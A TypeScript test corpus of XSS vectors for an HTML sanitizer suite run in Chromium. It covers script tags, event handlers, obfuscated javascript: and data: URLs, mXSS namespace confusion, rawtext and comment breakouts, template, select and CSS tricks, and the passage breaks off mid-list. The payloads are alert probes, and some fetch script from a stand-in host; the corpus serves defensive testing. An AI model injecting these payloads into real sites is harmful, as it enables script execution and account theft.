/**
 * The XSS attack corpus of the browser suite (xss-corpus.test.ts).
 *
 * Every vector is sanitized with the default (`sanitize(html, { context })`, the Sanitizer API's built-in safe
 * default plus reparse safety) in every context of the suite, and the output is run in Chromium. The `contexts` field
 * names the contexts a vector was written *for* (body when absent); the suite runs every vector in all of its contexts
 * anyway, plus these.
 *
 * Payload conventions: `alert(1)` and friends (the page overrides alert/confirm/prompt/print/open/fetch/XHR) or
 * `__pwned(1)` (a global probe). Any call counts as an execution, whatever the argument.
 *
 * The vectors are written for this project from public attack *patterns* (html5sec, the DOMPurify and sanitize-html
 * bypass reports, the mXSS write-ups, the Chromium Sanitizer API bugs); none is copied from a third-party corpus file.
 *
 * `knownHole`: set on a vector that is known to get through the sanitizer (an execution, a survivor or a reparse
 * difference). The suite still FAILS on it — the note only documents it in the output (see the report).
 */

export interface XssVector {
  /** Stable id: `<category>-<n>` or a descriptive slug. */
  id: string;
  category: string;
  html: string;
  /** Context labels this vector targets (chromium.ts `contextLabel` form: `td`, `svg svg`, `math math`...). */
  contexts?: string[];
  /** Documents a known hole (the suite fails on it anyway). */
  knownHole?: string;
}

const A = 'alert(1)';

// ---------------------------------------------------------------------------------------------------------------
// Builders

const out: XssVector[] = [];
const counters = new Map<string, number>();
function add(category: string, html: string, contexts?: string[], knownHole?: string): void {
  const n = (counters.get(category) ?? 0) + 1;
  counters.set(category, n);
  const v: XssVector = { id: `${category}-${n}`, category, html };
  if (contexts !== undefined) v.contexts = contexts;
  if (knownHole !== undefined) v.knownHole = knownHole;
  out.push(v);
}
function addAll(category: string, list: readonly string[], contexts?: string[]): void {
  for (const html of list) add(category, html, contexts);
}

// ---------------------------------------------------------------------------------------------------------------
// 1. Classic script injection

addAll('script', [
  `<script>${A}</script>`,
  `<SCRIPT>${A}</SCRIPT>`,
  `<script src=data:,${A}></script>`,
  `<script src="//probe.invalid/x.js"></script>`,
  `<script/src=data:text/javascript,${A}></script>`,
  `<script\x0c>${A}</script>`,
  `<script>${A}</script\t>`,
  `<script type=module>${A}</script>`,
  `<script type="text/javascript">${A}</script>`,
  `<<script>${A};//<</script>`,
  `<scr<script>ipt>${A}</scr</script>ipt>`,
  `<script>/*</script><script>*/${A}</script>`,
  `<script><!--<script></script>--></script><script>${A}</script>`,
  `<script><!--<script>--></script>${A}</script>`,
  `<script>${A}`,
  `<script x=">" >${A}</script>`,
  `<svg><script>${A}</script></svg>`,
  `<svg><script href=data:,${A} /></svg>`,
  `<svg><script xlink:href=data:,${A}></script></svg>`,
  `<svg><script>${A}<!--</script>--></svg>`,
  `<svg><script>&#97;lert(1)</script></svg>`,
  `<math><script>${A}</script></math>`,
  `<math><mi><script>${A}</script></mi></math>`,
  `<div><script>${A}</script></div>`,
  `<table><script>${A}</script></table>`,
  `<script>${A}</script>`,
]);
// The last one again in the contexts where script is most likely to be kept by a confused state machine.
out[out.length - 1]!.contexts = ['td', 'select', 'template', 'svg svg', 'math math'];

// ---------------------------------------------------------------------------------------------------------------
// 2. Event handlers, on elements the default drops and on the ones it keeps

addAll('handler', [
  `<img src=x onerror=${A}>`,
  `<IMG SRC=x ONERROR=${A}>`,
  `<img/src/onerror=${A}>`,
  `<img src=x onerror=${A}//`,
  `<img src="x" onerror="${A}"`,
  `<img src=x onerror\x0c=${A}>`,
  `<img src=x onerror = '${A}'>`,
  `<img src=x =onerror=${A}>`,
  `<img src=x/onerror=${A}>`,
  `<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">`,
  `<img src=x onerror=&#x61;lert(1)>`,
  `<img """><script>${A}</script>">`,
  `<img src="x` + '`' + ` onerror=${A}` + '`' + `>`,
  `<img srcset=x onerror=${A}>`,
  `<picture><source srcset=x onerror=${A}><img src=x onerror=${A}></picture>`,
  `<input type=image src=x onerror=${A}>`,
  `<svg onload=${A}>`,
  `<svg/onload=${A}>`,
  `<svg><g onload=${A}></g></svg>`,
  `<svg><rect width=10 height=10 onload=${A} onclick=${A} onmouseover=${A}></rect></svg>`,
  `<svg><image href=x onerror=${A}></image></svg>`,
  `<svg><foreignObject onload=${A}></foreignObject></svg>`,
  `<svg><animate onbegin=${A} attributeName=x dur=1s></animate></svg>`,
  `<svg><set onbegin=${A} attributeName=x to=1></set></svg>`,
  `<svg><discard onbegin=${A}></discard></svg>`,
  `<svg><animatetransform onbegin=${A} attributeName=transform></animatetransform></svg>`,
  `<svg><animateMotion onend=${A} dur=0.01s path="M0 0"></animateMotion></svg>`,
  `<body onload=${A}>`,
  `<body onpageshow=${A}>`,
  `<body onfocus=${A}>`,
  `<html onmouseover=${A}>`,
  `<frameset onload=${A}>`,
  `<input autofocus onfocus=${A}>`,
  `<input onfocusin=${A} autofocus>`,
  `<select autofocus onfocus=${A}></select>`,
  `<textarea autofocus onfocus=${A}></textarea>`,
  `<keygen autofocus onfocus=${A}>`,
  `<a href=# autofocus onfocus=${A}>x</a>`,
  `<div tabindex=1 autofocus onfocus=${A}>x</div>`,
  `<div contenteditable autofocus onfocus=${A}>x</div>`,
  `<details open ontoggle=${A}>`,
  `<details ontoggle=${A} open><summary>x</summary></details>`,
  `<dialog open onclose=${A}></dialog>`,
  `<div popover id=p onbeforetoggle=${A}></div><button popovertarget=p>x</button>`,
  `<video><source onerror=${A}></video>`,
  `<video src=x onerror=${A}></video>`,
  `<audio src=x onerror=${A}></audio>`,
  `<video poster=javascript:${A}></video>`,
  `<track onerror=${A}>`,
  `<marquee onstart=${A}>x</marquee>`,
  `<object data=x onerror=${A}></object>`,
  `<embed src=x onload=${A}>`,
  `<iframe onload=${A}></iframe>`,
  `<style onload=${A}></style>`,
  `<link rel=stylesheet href=x onerror=${A}>`,
  `<form onsubmit=${A}><button>x</button></form>`,
  `<form><button onclick=${A}>x</button></form>`,
  `<table background=x onerror=${A}><td>x</td></table>`,
  `<div style="animation-name:spin;animation-duration:1ms" onanimationstart=${A}>x</div>`,
  `<div style="transition:color 1ms" ontransitionend=${A}>x</div>`,
  `<div onpointerover=${A} onpointerenter=${A}>x</div>`,
  `<x oncontentvisibilityautostatechange=${A} style=content-visibility:auto>x</x>`,
  `<div onwheel=${A} onscroll=${A} onscrollend=${A}>x</div>`,
  `<p onbeforematch=${A} hidden=until-found>x</p>`,
  `<xss onclick=${A}>x</xss>`,
  `<custom-element onmouseover=${A}>x</custom-element>`,
  `<div onclick=${A} onclick=x>x</div>`,
  `<div title=x onclick=${A}>x</div>`,
  `<div onmouseover\n=${A}>x</div>`,
  `<div/onmouseover=${A}>x</div>`,
  `<div onmouseover='${A}'/>`,
  `<math onclick=${A}><mi>x</mi></math>`,
  `<math><mi onmouseover=${A}>x</mi></math>`,
  `<math><maction actiontype=statusline onclick=${A}><mtext>x</mtext></maction></math>`,
  `<svg><a onclick=${A}><text>x</text></a></svg>`,
  `<svg><text onclick=${A} onfocus=${A} tabindex=0>x</text></svg>`,
]);

// Every element of the default allow-list (these are the ones kept, so attribute removal is what stands), with a
// handful of handlers that would fire on insertion, focus or a dispatched event.
const H = `onclick=${A} onmouseover=${A} onfocus=${A} onerror=${A} onload=${A} onanimationstart=${A} tabindex=0 autofocus`;
const HTML_KEPT = (
  'a abbr address article aside b bdi bdo blockquote br cite code data dd del dfn div dl dt em figcaption ' +
  'figure footer h1 h2 h3 h4 h5 h6 header hgroup hr i ins kbd li main mark menu nav ol p pre q rp rt ruby s ' +
  'samp search section small span strong sub sup time u ul var wbr'
).split(' ');
for (const el of HTML_KEPT) add('handler-kept', `<${el} ${H}>x</${el}>`);
addAll('handler-kept', [
  `<table ${H}><caption ${H}>x</caption><colgroup ${H}><col ${H}></colgroup><thead ${H}><tr ${H}><th ${H}>x</th></tr></thead><tbody ${H}><tr><td ${H}>x</td></tr></tbody><tfoot ${H}></tfoot></table>`,
  `<td ${H}>x</td><th ${H}>y</th>`,
  `<title ${H}>x</title>`,
  `<body ${H}>x</body>`,
  `<html ${H}><head ${H}></head><body>x</body></html>`,
]);
out[out.length - 4]!.contexts = ['tr'];
const SVG_KEPT = (
  'circle defs desc ellipse foreignObject g line marker metadata path polygon polyline rect text textPath title tspan'
).split(' ');
for (const el of SVG_KEPT) add('handler-kept-svg', `<svg ${H}><${el} ${H}>x</${el}></svg>`);
add('handler-kept-svg', `<svg><a ${H} href=#>x</a></svg>`);
const MATH_KEPT = (
  'merror mfrac mi mmultiscripts mn mo mover mpadded mphantom mroot mrow ms mspace msqrt mstyle msub msubsup msup ' +
  'mtable mtext munder munderover semantics'
).split(' ');
for (const el of MATH_KEPT) add('handler-kept-math', `<math ${H}><${el} ${H}>x</${el}></math>`);
add('handler-kept-math', `<math><mtable><mtr ${H}><mtd ${H}>x</mtd></mtr></mtable></math>`);

// ---------------------------------------------------------------------------------------------------------------
// 3. URL tricks

// Spellings of a script URL (and a few that look like one but are not: they must simply not execute).
const JS_URLS = [
  `javascript:${A}`,
  `JaVaScRiPt:${A}`,
  `javascript&colon;${A}`,
  `javascript&#58;${A}`,
  `javascript&#x3a;${A}`,
  `javascript&#X003A;${A}`,
  `javascript&#0000058${A}`,
  `java&Tab;script:${A}`,
  `java&NewLine;script:${A}`,
  `java&#x09;script:${A}`,
  `java&#10;script:${A}`,
  `java&#13;script:${A}`,
  `java\tscript:${A}`,
  `java\nscript:${A}`,
  `java\rscript:${A}`,
  `j\ta\nv\ra\ts\nc\rr\ti\np\rt:${A}`,
  `&#106;avascript:${A}`,
  `&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${A}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${A}`,
  `&#X6a;avas&#99;ript:${A}`,
  `javascript&#x3A;alert&lpar;1&rpar;`,
  `  javascript:${A}`,
  `\x01javascript:${A}`,
  `\x1f\x0b\x0ejavascript:${A}`,
  `&#1;&#14;&#31;javascript:${A}`,
  `&#x20;&#x0c;javascript:${A}`,
  `&Tab;&NewLine;javascript:${A}`,
  `javascript:${A}&#x20;\x01`,
  `\u00a0javascript:${A}`,
  `\u2028javascript:${A}`,
  `\u3000javascript:${A}`,
  `java\u0000script:${A}`,
  `&#0;javascript:${A}`,
  `javascript://%0a${A}`,
  `javascript:/**/%61lert(1)`,
  `javascript:\u2028${A}`,
  `ｊａｖａｓｃｒｉｐｔ:${A}`,
  `java%0ascript:${A}`,
  `jav&#x0D;ascript:${A}`,
  `vbscript:msgbox(1)`,
  `VBScript:msgbox(1)`,
  `livescript:${A}`,
  `data:text/html,<script>${A}</script>`,
  `DATA:TEXT/HTML;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  ` data:text/html,<svg onload=${A}>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${A}"/>`,
  `data:application/xhtml+xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">${A}</x:script>`,
  `data:text/javascript,${A}`,
];
for (const u of JS_URLS) add('url-a', `<a href="${u}">x</a>`);
addAll('url-a', [
  `<a href=javascript:${A}>x</a>`,
  `<a href='javascript:${A}'>x</a>`,
  `<a HREF="javascript:${A}">x</a>`,
  `<a href="https://ok.invalid/" href="javascript:${A}">x</a>`,
  `<a href="javascript:${A}" href="https://ok.invalid/">x</a>`,
  `<a href="javascript:${A}"x">x</a>`,
  `<a href=" javascript:${A}"title="x">x</a>`,
  `<a href="javascript:void(0)" onclick="${A}">x</a>`,
  `<a href="#" ping="javascript:${A}">x</a>`,
  `<a href="javascript:'<img src=x onerror=${A}>'">x</a>`,
  `<a href="javascript:%3Cimg%20src=x%20onerror=alert(1)%3E">x</a>`,
  `<a href="jav&#x61;script&#x3a;&#x61;lert(1)">x</a>`,
  `<a href="jav&#x41script&#x3A;alert(1)">x</a>`,
]);

// The same spellings on the other URL-valued places (a subset, chosen among the trickiest).
const JS_URLS_SHORT = [
  `javascript:${A}`,
  `JaVaScRiPt&colon;${A}`,
  `java&#x09;script:${A}`,
  `&#0000106avascript:${A}`,
  `\x01 javascript:${A}`,
  `data:text/html,<script>${A}</script>`,
  `vbscript:msgbox(1)`,
];
for (const u of JS_URLS_SHORT) {
  add('url-svg', `<svg><a href="${u}"><text y=20>x</text></a></svg>`, ['svg svg']);
  add('url-svg', `<svg><a xlink:href="${u}"><rect width=50 height=50></rect></a></svg>`, ['svg svg']);
  add('url-math', `<math href="${u}"><mi>x</mi></math>`, ['math math']);
  add('url-form', `<form action="${u}"><button>x</button></form>`);
  add('url-form', `<form><button formaction="${u}">x</button><input type=submit formaction="${u}"></form>`);
  add('url-frame', `<iframe src="${u}"></iframe>`);
}
addAll('url-misc', [
  `<svg><a><animate attributeName=href values="javascript:${A}" /><text y=20>x</text></a></svg>`,
  `<svg><a><animate attributeName=xlink:href values="javascript:${A}" begin=0s fill=freeze /><text y=20>x</text></a></svg>`,
  `<svg><a><set attributeName=href to="javascript:${A}" /><text y=20>x</text></a></svg>`,
  `<svg><a id=l><text y=20>x</text></a><set href=#l attributeName=href to="javascript:${A}" /></svg>`,
  `<svg><a href=#><animate attributeName=href from=# to="javascript:${A}" dur=1ms fill=freeze /><text y=20>x</text></a></svg>`,
  `<svg><animate xlink:href=#x attributeName=href values="javascript:${A}" /><a id=x><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${A}'/></svg>#x"></use></svg>`,
  `<svg><use xlink:href="//probe.invalid/x.svg#x"></use></svg>`,
  `<svg><image xlink:href="javascript:${A}"></image></svg>`,
  `<svg><feImage href="javascript:${A}"></feImage></svg>`,
  `<svg><textPath href="javascript:${A}">x</textPath></svg>`,
  `<svg><text><textPath xlink:href="#p">x</textPath></text><path id=p d="M0 0"></path></svg>`,
  `<math><mi xlink:href="javascript:${A}">x</mi></math>`,
  `<math><maction actiontype=toggle xlink:href="javascript:${A}"><mi>x</mi></maction></math>`,
  `<math><mtext><a href="javascript:${A}">x</a></mtext></math>`,
  `<base href="javascript:${A}//"><a href=/x>x</a>`,
  `<base href="//probe.invalid/"><a href=x>x</a>`,
  `<meta http-equiv=refresh content="0;url=javascript:${A}">`,
  `<meta http-equiv="refresh" content="0; url=data:text/html,<script>${A}</script>">`,
  `<meta http-equiv=set-cookie content="x=1">`,
  `<meta http-equiv=content-security-policy content="script-src 'none'">`,
  `<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
  `<iframe srcdoc="<script>${A}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=${A}&gt;"></iframe>`,
  `<iframe src="data:text/html,<script>${A}</script>"></iframe>`,
  `<frameset><frame src="javascript:${A}"></frameset>`,
  `<object data="javascript:${A}"></object>`,
  `<object data="data:text/html,<script>${A}</script>"></object>`,
  `<object type=text/html data=//probe.invalid/x></object>`,
  `<object><param name=src value="javascript:${A}"></object>`,
  `<embed src="javascript:${A}">`,
  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${A}'/>" type=image/svg+xml>`,
  `<applet code="javascript:${A}"></applet>`,
  `<link rel=import href="data:text/html,<script>${A}</script>">`,
  `<link rel=stylesheet href="javascript:${A}">`,
  `<link rel=preload as=script href="//probe.invalid/x.js">`,
  `<portal src="javascript:${A}"></portal>`,
  `<area href="javascript:${A}">`,
  `<map><area shape=rect coords=0,0,99,99 href="javascript:${A}"></map>`,
  `<img src="javascript:${A}">`,
  `<img lowsrc="javascript:${A}" dynsrc="javascript:${A}">`,
  `<input type=image formaction="javascript:${A}" src=x>`,
  `<isindex action="javascript:${A}" type=submit>`,
  `<table background="javascript:${A}"><td>x</td></table>`,
  `<blockquote cite="javascript:${A}">x</blockquote>`,
  `<q cite="javascript:${A}">x</q><del cite="javascript:${A}">x</del><ins cite="javascript:${A}">x</ins>`,
  `<a href="javascript:${A}"><svg><a href="javascript:${A}"><text>x</text></a></svg></a>`,
  `<button popovertarget=x popovertargetaction=show>x</button><div id=x popover><a href="javascript:${A}">y</a></div>`,
  `<a href="x" data-href="javascript:${A}">x</a>`,
  `<svg><a href="&#x6A;avascript:${A}" target=_self><rect width=9 height=9></rect></a></svg>`,
]);

// ---------------------------------------------------------------------------------------------------------------
// 4. Namespace confusion (the mXSS families)

addAll('ns', [
  `<svg></p><style><a id="</style><img src=1 onerror=${A}>">`,
  `<svg><p><style><g title="</style><img src=x onerror=${A}>">`,
  `<svg><style><img src=x onerror=${A}></style></svg>`,
  `<svg><style>&lt;img src=x onerror=${A}&gt;</style></svg>`,
  `<svg><style><![CDATA[</style><img src=x onerror=${A}>]]></style></svg>`,
  `<math><style><img src=x onerror=${A}></style></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${A}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">`,
  `<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=${A} src>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${A}>`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${A}>"></style></h1>`,
  `<math><mtext><malignmark><style><img src=x onerror=${A}></style></malignmark></mtext></math>`,
  `<math><mi><mglyph><style><!--</style><img src=x onerror=${A}>--></style></mglyph></mi></math>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${A}></style></annotation-xml></math>`,
  `<math><annotation-xml encoding="application/xhtml+xml"><style><!--</style><img src=x onerror=${A}>--></style></annotation-xml></math>`,
  `<math><annotation-xml><style><img src=x onerror=${A}></style></annotation-xml></math>`,
  `<math><annotation-xml encoding="text/html"><svg><style><a title="</style><img src=x onerror=${A}>">`,
  `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src='x' onerror='${A}'>">`,
  `<svg><foreignObject><math><mtext><style><a title="</style><img src=x onerror=${A}>"></a></style></mtext></math></foreignObject></svg>`,
  `<svg><title><style><a title="</style><img src=x onerror=${A}>">`,
  `<svg><desc><style><a title="</style><img src=x onerror=${A}>">`,
  `<svg><a><foreignobject><a><table><a></table><style><!--</style></svg><a id="-><img src onerror=${A}>">`,
  `<svg><foreignobject><p><style><!--</style><img src=x onerror=${A}>--></style></p></foreignobject></svg>`,
  `<math><mi><table><mglyph><style><!--</style><img src=x onerror=${A}>`,
  `<math><mo><table><malignmark><style><!--</style><img src=x onerror=${A}>`,
  `<svg><font color=red><style><img src=x onerror=${A}></style></font></svg>`,
  `<svg><font face=x></font><style><img src=x onerror=${A}>`,
  `<svg><b><style><img src=x onerror=${A}></style></b></svg>`,
  `<math><mtext><svg><p><style><a title="</style><img src=x onerror=${A}>">`,
  `<math><mi><svg><foreignObject><style><a title="</style><img src=x onerror=${A}>">`,
  `<svg><desc><svg><style><a title="</style><img src=x onerror=${A}>"></a></style></svg></desc></svg>`,
  `<svg><title><table><style><a title="</style><img src=x onerror=${A}>">`,
  `<math><annotation-xml encoding="text/html"><table><mglyph><style><img src=x onerror=${A}>`,
  `<svg xmlns="http://www.w3.org/1999/xhtml"><style><img src=x onerror=${A}></style></svg>`,
  `<math xmlns="http://www.w3.org/1999/xhtml"><style><img src=x onerror=${A}></style></math>`,
  `<svg><x:script xmlns:x="http://www.w3.org/2000/svg">${A}</x:script></svg>`,
  `<math><mtext><select><style><img src=x onerror=${A}></style></select></mtext></math>`,
  `<svg><textarea><img src=x onerror=${A}></textarea></svg>`,
  `<svg><noscript><img src=x onerror=${A}></noscript></svg>`,
  `<svg><xmp><img src=x onerror=${A}></xmp></svg>`,
  `<svg><iframe><img src=x onerror=${A}></iframe></svg>`,
  `<svg><noembed><img src=x onerror=${A}></noembed></svg>`,
  `<math><mglyph><style><img src=x onerror=${A}></style></mglyph></math>`,
]);
addAll('ns-context', [
  `<style><img src=x onerror=${A}></style>`,
  `<title><img src=x onerror=${A}></title>`,
  `</svg><img src=x onerror=${A}>`,
  `<p><style><a title="</style><img src=x onerror=${A}>">`,
  `<mglyph><style><img src=x onerror=${A}>`,
  `<malignmark><style><!--</style><img src=x onerror=${A}>-->`,
  `<table><mglyph><style><img src=x onerror=${A}>`,
  `<foreignObject><style><a title="</style><img src=x onerror=${A}>">`,
  `<desc><style><a title="</style><img src=x onerror=${A}>">`,
  `<title>x</title><style>&lt;/style&gt;&lt;img src=x onerror=${A}&gt;</style>`,
], ['svg svg', 'math math', 'svg foreignObject', 'math annotation-xml', 'math mi']);

// ---------------------------------------------------------------------------------------------------------------
// 5. Raw text, RCDATA and comment breakouts

addAll('rawtext', [
  `<style>x</style><a title="</style><img src=x onerror=${A}>">`,
  `<a title="</style><img src=x onerror=${A}>">x</a>`,
  `<a title="</title><img src=x onerror=${A}>">x</a>`,
  `<a title="</textarea><img src=x onerror=${A}>">x</a>`,
  `<a title="</noscript><img src=x onerror=${A}>">x</a>`,
  `<a title="--><img src=x onerror=${A}>">x</a>`,
  `<title><img src=x onerror=${A}></title>`,
  `<title></title><img src=x onerror=${A}>`,
  `<p><title>&lt;/title&gt;&lt;img src=x onerror=${A}&gt;</title></p>`,
  `<title>&lt;/title>&lt;img src=x onerror=${A}></title>`,
  `<textarea><img src=x onerror=${A}></textarea>`,
  `<textarea></textarea ><img src=x onerror=${A}>`,
  `<textarea>&lt;/textarea&gt;&lt;img src=x onerror=${A}&gt;</textarea>`,
  `<xmp><img src=x onerror=${A}></xmp>`,
  `<xmp>&lt;/xmp&gt;<p title="</xmp><img src=x onerror=${A}>"></xmp>`,
  `<iframe><img src=x onerror=${A}></iframe>`,
  `<iframe>&lt;/iframe&gt;<p title="</iframe><img src=x onerror=${A}>"></iframe>`,
  `<noembed><img src=x onerror=${A}></noembed>`,
  `<noembed><p title="</noembed><img src=x onerror=${A}>">`,
  `<noframes><img src=x onerror=${A}></noframes>`,
  `<noframes><p title="</noframes><img src=x onerror=${A}>">`,
  `<plaintext><img src=x onerror=${A}>`,
  `<p><plaintext></p><img src=x onerror=${A}>`,
  `<style>&lt;/style&gt;&lt;img src=x onerror=${A}&gt;</style>`,
  `<style></style\x0c><img src=x onerror=${A}>`,
  `<style>/*</style><img src=x onerror=${A}>*/</style>`,
  `<div><style><!--</style><img src=x onerror=${A}>--></style></div>`,
  `<listing>&lt;img src=x onerror=${A}&gt;</listing>`,
  `<pre>&lt;img src=x onerror=${A}&gt;</pre>`,
  `<pre>\n<img src=x onerror=${A}></pre>`,
  `<div>&lt;img src=x onerror=${A}&gt;</div>`,
  `&lt;script&gt;${A}&lt;/script&gt;`,
  `<script>&lt;/script&gt;&lt;img src=x onerror=${A}&gt;</script>`,
], undefined);
for (const ctx of ['style', 'textarea', 'title', 'xmp', 'iframe', 'noembed', 'noframes', 'noscript', 'plaintext', 'script']) {
  add('rawtext-context', `</${ctx}><img src=x onerror=${A}>`, [ctx]);
  add('rawtext-context', `&lt;/${ctx}&gt;&lt;img src=x onerror=${A}&gt;</${ctx.toUpperCase()} ><svg onload=${A}>`, [ctx]);
}
addAll('comment', [
  `<!--><img src=x onerror=${A}>-->`,
  `<!---><img src=x onerror=${A}>-->`,
  `<!-- --!><img src=x onerror=${A}> -->`,
  `<!-- --!--><img src=x onerror=${A}>`,
  `<!--<!--><img src=x onerror=${A}>-->`,
  `<!-- -- ><img src=x onerror=${A}>-->`,
  `<! ><img src=x onerror=${A}>`,
  `<!x><img src=x onerror=${A}>`,
  `<!DOCTYPE x><img src=x onerror=${A}>`,
  `</ x><img src=x onerror=${A}>`,
  `</3><img src=x onerror=${A}>`,
  `<div><!--</div><img src=x onerror=${A}>--></div>`,
  `<p title="<!--">x</p><!-- --><img src=x onerror=${A}>`,
  `<a title="<!--">x</a><style>--></style><img src=x onerror=${A}>`,
  `<!--[if gte IE 4]><script>${A}</script><![endif]-->`,
  `<!--[if]><img src=x onerror=${A}>-->`,
  `<![CDATA[><img src=x onerror=${A}>]]>`,
  `<!--\u2028--><img src=x onerror=${A}>`,
  `<svg><!--</svg><img src=x onerror=${A}>--></svg>`,
  `<math><!--</math><img src=x onerror=${A}>--></math>`,
  `<svg><desc><!--</desc><img src=x onerror=${A}>--></desc></svg>`,
]);

// ---------------------------------------------------------------------------------------------------------------
// 6. noscript (the scripting flag differential)

addAll('noscript', [
  `<noscript><p title="</noscript><img src=x onerror=${A}>"></noscript>`,
  `<noscript><img src=x onerror=${A}></noscript>`,
  `<noscript>&lt;/noscript&gt;&lt;img src=x onerror=${A}&gt;</noscript>`,
  `<noscript><style></noscript><img src=x onerror=${A}></style></noscript>`,
  `<noscript><!--</noscript><img src=x onerror=${A}>--></noscript>`,
  `<noscript><a title="</noscript><svg onload=${A}>">x</a></noscript>`,
  `<svg><noscript><p title="</noscript><img src=x onerror=${A}>"></noscript></svg>`,
  `<math><mtext><noscript><p title="</noscript><img src=x onerror=${A}>"></mtext></math>`,
  `<table><noscript><img src=x onerror=${A}></noscript></table>`,
  `<p title="</noscript><img src=x onerror=${A}>">x</p>`,
]);
for (const v of out.slice(-10)) v.contexts = ['noscript', 'body', 'td'];

// ---------------------------------------------------------------------------------------------------------------
// 7. template

addAll('template', [
  `<template><img src=x onerror=${A}></template>`,
  `<template><script>${A}</script></template>`,
  `<template><template><template><img src=x onerror=${A}></template></template></template>`,
  `<template><style></template><img src=x onerror=${A}></style></template>`,
  `<template><a title="</template><img src=x onerror=${A}>">x</a></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${A}></template></div>`,
  `<div><template shadowrootmode=closed><slot></slot><svg onload=${A}></svg></template>x</div>`,
  `<div><template shadowroot=open><img src=x onerror=${A}></template></div>`,
  `<template><td><img src=x onerror=${A}></td></template>`,
  `<template><tr><td onclick=${A}>x</td></tr></template>`,
  `<table><template><style><img src=x onerror=${A}></style></template></table>`,
  `<template><svg><style><img src=x onerror=${A}></style></svg></template>`,
  `<template><math><mtext><table><mglyph><style><img src=x onerror=${A}></template>`,
  `</template><img src=x onerror=${A}>`,
  `<template><frameset onload=${A}></template>`,
  `<template><noscript><p title="</noscript><img src=x onerror=${A}>"></noscript></template>`,
]);
for (const v of out.slice(-16)) v.contexts = ['template', 'body', 'td'];

// ---------------------------------------------------------------------------------------------------------------
// 8. select (the relaxed customizable-select parser)

addAll('select', [
  `<select><style><img src=x onerror=${A}></style></select>`,
  `<select><style><a title="</style><img src=x onerror=${A}>"></style></select>`,
  `<select><template><style><!--</style><a rel="--></template></select><img src=x onerror=${A}>">`,
  `<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=${A}>x</option></select>`,
  `<select><option selected><svg onload=${A}></svg></option></select>`,
  `<select><div onclick=${A}>x</div></select>`,
  `<select><option><script>${A}</script></option></select>`,
  `<select><textarea><img src=x onerror=${A}></textarea></select>`,
  `<select><plaintext><img src=x onerror=${A}>`,
  `<select><xmp></select><img src=x onerror=${A}></xmp>`,
  `<select><iframe></select><img src=x onerror=${A}></iframe>`,
  `<select><noembed></select><img src=x onerror=${A}></noembed>`,
  `<select><input autofocus onfocus=${A}></select>`,
  `<select><keygen autofocus onfocus=${A}></select>`,
  `<select><math><mtext><table><mglyph><style><img src=x onerror=${A}></select>`,
  `<select><svg><style><a title="</style><img src=x onerror=${A}>"></select>`,
  `<selectedcontent><img src=x onerror=${A}></selectedcontent>`,
  `<option><style></option><img src=x onerror=${A}></style>`,
  `<optgroup><a title="</optgroup><img src=x onerror=${A}>">`,
]);
for (const v of out.slice(-19)) v.contexts = ['select', 'body', 'td'];

// ---------------------------------------------------------------------------------------------------------------
// 9. Processing instructions and bogus comments

addAll('pi', [
  `<?x ><img src=x onerror=${A}> ?>`,
  `<?xml-stylesheet href="javascript:${A}"?>`,
  `<?xml version="1.0"?><img src=x onerror=${A}>`,
  `<?><img src=x onerror=${A}>`,
  `<svg><?x ><img src=x onerror=${A}>?></svg>`,
  `<svg><?xml-stylesheet type="text/css" href="data:,*{x:expression(alert(1))}"?></svg>`,
  `<math><?x ><style></math><img src=x onerror=${A}>?></math>`,
  `<?x title="?><img src=x onerror=${A}>"?>`,
]);

// ---------------------------------------------------------------------------------------------------------------
// 10. DOM clobbering (ids and names are not in the default, but the vectors must also not execute)

addAll('clobber', [
  `<img id=cookie name=cookie>`,
  `<form id=getElementById></form>`,
  `<form name=attributes><input name=attributes></form>`,
  `<form id=x><input id=parentNode name=nodeName></form>`,
  `<img name=createElement><img name=body>`,
  `<a id=defaultView href="javascript:${A}">x</a><a id=defaultView name=location href="javascript:${A}">y</a>`,
  `<div id=__pwned>x</div><a id=alert>y</a>`,
  `<iframe name=alert srcdoc="<script>${A}</script>"></iframe>`,
  `<embed name=cookie><object name=getElementsByTagName></object>`,
  `<form><input name=action value="javascript:${A}"></form>`,
  `<svg><a id=x name=y href=#><text>x</text></a></svg>`,
  `<math><mi id=cookie>x</mi></math>`,
]);

// ---------------------------------------------------------------------------------------------------------------
// 11. CSS

addAll('css', [
  `<div style="width:expression(${A})">x</div>`,
  `<div style="background:url(javascript:${A})">x</div>`,
  `<div style="background:url('javascript:${A}')">x</div>`,
  `<div style="-moz-binding:url(//probe.invalid/x.xml#x)">x</div>`,
  `<div style="behavior:url(x.htc)">x</div>`,
  `<div style="background-image:image-set(url(javascript:${A}) 1x)">x</div>`,
  `<div style="x:\\65 xpression(${A})">x</div>`,
  `<style>@import 'javascript:${A}';</style>`,
  `<style>@import url(//probe.invalid/x.css);</style>`,
  `<style>*{background:url(javascript:${A})}</style>`,
  `<style>*{x:expression(${A})}</style>`,
  `<style>div{animation:x 1ms}@keyframes x{}</style><div onanimationstart=${A}>x</div>`,
  `<svg><style>*{fill:url(javascript:${A})}</style></svg>`,
  `<svg><rect fill="url(javascript:${A})" width=9 height=9></rect></svg>`,
